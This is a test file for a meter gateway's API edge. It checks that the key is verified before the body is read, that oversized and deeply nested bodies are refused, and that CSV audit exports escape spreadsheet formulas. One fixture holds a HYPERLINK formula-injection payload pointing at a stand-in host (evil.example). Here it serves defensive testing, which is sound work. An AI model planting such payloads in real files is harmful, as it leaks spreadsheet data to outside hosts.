import { createHash } from 'node:crypto';
import { parse as parseCsv } from 'csv-parse/sync';
import type { Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startGatewayFixture, type GatewayFixture } from '../harness/gateway-fixture.js';
import { rawRequest } from '../harness/raw-http.js';

/**
 * The API edge (issue 14, DESIGN.md §8), through real sockets: the key is checked before any body is read, every
 * body is bounded by its route, JSON nesting is bounded, and CSV exports cannot carry spreadsheet formulas.
 */
const CLOSES = 'acme-em340-fw2.4';
let f: GatewayFixture;
/** Bytes the gateway read from each connection, by the client's port, once the connection has closed. */
const serverRead = new Map<number, number>();

/** A configured key whose client (its configured name is its id, and the audit's actor) reads as a spreadsheet formula. */
const FORMULA_CLIENT = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const FORMULA_KEY = 'formula-client-key-0001';

beforeAll(async () => {
  f = await startGatewayFixture(
    [
      { meterId: 'EDGE-1', profileId: CLOSES, initialRelay: 'disconnected' },
      { meterId: '-2-3', profileId: CLOSES, initialRelay: 'connected' },
    ],
    { auth: { keys: [{ name: FORMULA_CLIENT, role: 'operator', sha256: createHash('sha256').update(FORMULA_KEY).digest('hex') }], demoKeys: true } },
  );
  f.gateway.api.server.on('connection', (socket: Socket) => {
    const port = socket.remotePort!;
    socket.on('close', () => serverRead.set(port, socket.bytesRead));
  });
}, 60_000);
const bytesReadBy = async (localPort: number): Promise<number> => {
  await expect.poll(() => serverRead.has(localPort), { timeout: 5_000 }).toBe(true);
  return serverRead.get(localPort)!;
};
afterAll(async () => {
  await f?.stop();
});

const MB = 1024 * 1024;
const auth = (key: string) => ({ authorization: `Bearer ${key}`, 'content-type': 'application/json' });

describe('authenticate before reading the body', () => {
  it('every route that needs a key answers an unknown caller 401 at once, without waiting for the body its Content-Length promises', async () => {
    const doc = (await f.http('GET', '/openapi.json')).body;
    const routes: { method: string; path: string }[] = [];
    for (const [path, ops] of Object.entries<Record<string, { security?: unknown[] }>>(doc.paths)) {
      for (const [method, op] of Object.entries(ops)) if (op.security?.length) routes.push({ method: method.toUpperCase(), path: path.replace(/\{[^}]+\}/g, 'EDGE-1') });
    }
    expect(routes.length).toBeGreaterThan(50);
    expect(routes).toContainEqual({ method: 'POST', path: '/v1/payments/bulk' });
    expect(routes).toContainEqual({ method: 'GET', path: '/v1/events' });
    for (const { method, path } of routes) {
      // 512 KB promised, none sent: a server that reads the body first would wait for it (the request times out).
      const res = await rawRequest(f.gateway.apiUrl, method, path, { headers: { 'content-type': 'application/json', authorization: 'Bearer not-a-key' }, body: { declareOnly: 512 * 1024 }, timeoutMs: 5_000 });
      expect({ method, path, status: res.status, code: res.json?.code }).toEqual({ method, path, status: 401, code: 'E_UNAUTHORIZED' });
      expect(res.headers.connection, `${method} ${path}`).toBe('close');
    }
  });

  it('a 6 MB invalid body with no key is answered 401 with no schema details, and the server stops reading it', async () => {
    const res = await rawRequest(f.gateway.apiUrl, 'POST', '/v1/payments/bulk', {
      headers: { 'content-type': 'application/json', 'idempotency-key': 'x' },
      body: { head: '{"payments":[', repeat: '{"meterId":"nope","amount":-1,"receivedAt":"yesterday"},'.repeat(1000), times: 110, tail: '{}]}' },
    });
    expect(res.status).toBe(401);
    expect(res.json).toMatchObject({ code: 'E_UNAUTHORIZED' });
    expect(res.json.details).toBeUndefined();
    expect(res.bodyBytes).toBeGreaterThan(6_000_000);
    expect(res.sentWhenAnswered).toBeLessThan(res.bodyBytes);
    // What the gateway read of it: the headers and what came with them in the first reads, nothing like 6 MB.
    expect(await bytesReadBy(res.localPort)).toBeLessThan(512 * 1024);
  });
});

describe('body limits per route', () => {
  it('a 20 MB single reconnect is refused by its Content-Length before it is read: 413 E_BODY_TOO_LARGE naming the route’s limit', async () => {
    const res = await rawRequest(f.gateway.apiUrl, 'POST', '/v1/meters/EDGE-1/reconnect', {
      headers: { ...auth(f.operatorKey), 'idempotency-key': 'edge-big-1' },
      body: { head: '{"reason":"payment","note":"', repeat: 'x'.repeat(64 * 1024), times: 320, tail: '"}' },
    });
    expect(res.status).toBe(413);
    expect(res.json.code).toBe('E_BODY_TOO_LARGE');
    expect(res.json.details).toEqual({ limitBytes: 16_384 });
    expect(res.json.message).toContain('at most 16,384 bytes');
    expect(res.json.message).toContain('/v1/meters/:meterId/reconnect');
    expect(res.sentWhenAnswered).toBeLessThan(res.bodyBytes);
    expect(await bytesReadBy(res.localPort)).toBeLessThan(512 * 1024);
    // Nothing was created.
    expect((await f.http('GET', '/v1/orders?meterId=EDGE-1')).body.items).toEqual([]);
  });

  it('a bulk body is bounded by its item limit: 40 MB of orders is 413 at once, and a chunked body with no length is cut at the limit', async () => {
    const item = JSON.stringify({ meterId: 'EDGE-1', action: 'reconnect', reason: 'payment', note: 'n'.repeat(400) }) + ',';
    const bulk = (framing: 'length' | 'chunked', megabytes: number) =>
      rawRequest(f.gateway.apiUrl, 'POST', '/v1/orders/bulk', {
        headers: { ...auth(f.operatorKey), 'idempotency-key': `edge-bulk-${framing}` },
        body: { head: '{"orders":[', repeat: item.repeat(Math.floor((256 * 1024) / item.length)), times: megabytes * 4, tail: '{}]}', framing },
      });
    const declared = await bulk('length', 40);
    expect(declared.status).toBe(413);
    expect(declared.json.code).toBe('E_BODY_TOO_LARGE');
    const limit = declared.json.details.limitBytes;
    // 10,000 orders of up to 1 KiB each, plus the envelope: what the route may be asked for, and no more.
    expect(limit).toBe(10_000 * 1024 + 4096);
    expect(declared.sentWhenAnswered).toBeLessThan(declared.bodyBytes);

    const streamed = await bulk('chunked', 16);
    expect(streamed.status).toBe(413);
    expect(streamed.json.code).toBe('E_BODY_TOO_LARGE');
    expect(streamed.sentWhenAnswered).toBeLessThan(streamed.bodyBytes);
    // Read up to the limit (there was no length to refuse it by), then no further.
    expect(await bytesReadBy(streamed.localPort)).toBeLessThan(limit + 1024 * 1024);
    expect((await f.http('GET', '/v1/orders?meterId=EDGE-1')).body.items).toEqual([]);
  });

  it('bodies within their limits still work: a bulk of 2,000 orders near 1 KiB each, and a plan listing 10,000 meters is refused only for its unknown meters', async () => {
    const orders = Array.from({ length: 2000 }, () => ({ meterId: 'EDGE-404', action: 'reconnect', reason: 'payment', note: 'n'.repeat(500), paymentReceivedAt: '2026-11-25T08:12:00.000Z' }));
    const bulk = await f.http('POST', '/v1/orders/bulk', { headers: { 'idempotency-key': 'edge-bulk-fits' }, body: { orders } });
    expect(JSON.stringify({ orders }).length).toBeGreaterThan(MB);
    expect(bulk.body.code).toBe('E_METER_NOT_FOUND');
    const plan = await f.http('POST', '/v1/plans', {
      headers: { 'idempotency-key': 'edge-plan' },
      body: { reason: 'arrears', windowFrom: '2026-11-24T08:00:00Z', windowTo: '2026-11-27T16:00:00Z', meters: Array.from({ length: 10_000 }, (_, i) => `M-${String(i).padStart(61, '0')}`) },
    });
    expect(plan.status).not.toBe(413);
  });
});

describe('JSON nesting', () => {
  it('5,000 levels of nesting (10 KB) in a facts import is 400 E_BODY_TOO_DEEP, not a 500; nothing imported', async () => {
    const deep = '['.repeat(5000) + ']'.repeat(5000);
    const res = await rawRequest(f.gateway.apiUrl, 'POST', '/v1/meters/facts/import', {
      headers: { ...auth(f.billingKey), 'idempotency-key': 'edge-deep' },
      body: { head: `{"rows":[{"meterId":"EDGE-1","vulnerable":true,"extra":${deep}}]}` },
    });
    expect(res.status).toBe(400);
    expect(res.json.code).toBe('E_BODY_TOO_DEEP');
    expect(res.json.details).toEqual({ maxDepth: 32 });
    expect((await f.http('GET', '/v1/meters/EDGE-1')).body.flags?.vulnerable ?? false).toBe(false);
  });

  it('brackets inside strings are text, not nesting: a note full of them is accepted', async () => {
    const res = await f.http('POST', '/v1/meters/EDGE-1/reconnect', { headers: { 'idempotency-key': 'edge-brackets' }, body: { reason: 'payment', note: '[[[[{{{{'.repeat(50) + '\\"[' } });
    expect(res.status).toBe(202);
    await f.waitForOrder(res.body.id);
  });
});

describe('CSV exports', () => {
  it('the audit export writes a client or meter id a spreadsheet would run as a formula as text (OWASP)', async () => {
    const name = FORMULA_CLIENT;
    const flagged = await f.http('PUT', '/v1/meters/-2-3/flags', { key: FORMULA_KEY, headers: { 'idempotency-key': 'edge-flags' }, body: { vulnerable: true } });
    expect(flagged.status).toBe(200);
    const res = await fetch(`${f.gateway.apiUrl}/v1/audit/export?format=csv&target=-2-3`, { headers: { authorization: `Bearer ${f.adminKey}` } });
    const rows = parseCsv(await res.text(), { columns: true }) as Record<string, string>[];
    const mine = rows.filter((r) => r.actor!.includes('HYPERLINK'));
    expect(mine.length).toBeGreaterThan(0);
    for (const r of mine) {
      expect(r.actor).toBe(`'${name}`);
      expect(r.target).toBe("'-2-3");
    }
    for (const r of rows) for (const cell of Object.values(r)) expect(cell, JSON.stringify(r)).not.toMatch(/^[=+\-@\t\r]/);
  });
});
